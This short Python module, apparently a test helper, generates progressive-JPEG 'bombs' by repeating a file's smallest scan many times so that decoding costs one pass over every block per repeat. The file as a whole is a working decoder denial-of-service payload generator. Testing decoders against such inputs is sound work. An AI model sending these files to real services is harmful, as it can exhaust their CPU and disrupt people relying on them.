"""Progressive-JPEG bombs made by code: one small scan repeated, each repeat a pass over every block to decode."""

from __future__ import annotations

import io
import re

_SCAN_END = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]")


def scan_spans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each scan of a well-formed JPEG: its SOS header and entropy-coded data."""
    spans, pos = [], 2
    while pos + 4 <= len(data) and data[pos + 1] != 0xD9:
        end = pos + 2 + int.from_bytes(data[pos + 2 : pos + 4], "big")
        if data[pos + 1] == 0xDA:
            found = _SCAN_END.search(data, end)
            end = found.start() if found else len(data)
            spans.append((pos, end))
        pos = end
    return spans


def progressive_bomb(scans: int, side: int = 1024) -> bytes:
    """A grey ``side`` x ``side`` progressive JPEG whose smallest scan (12 bytes) is repeated ``scans`` times."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, "JPEG", progressive=True, quality=50)
    data = out.getvalue()
    start, end = min(scan_spans(data), key=lambda span: span[1] - span[0])
    eoi = data.rindex(b"\xff\xd9")
    return data[:eoi] + data[start:end] * scans + data[eoi:]
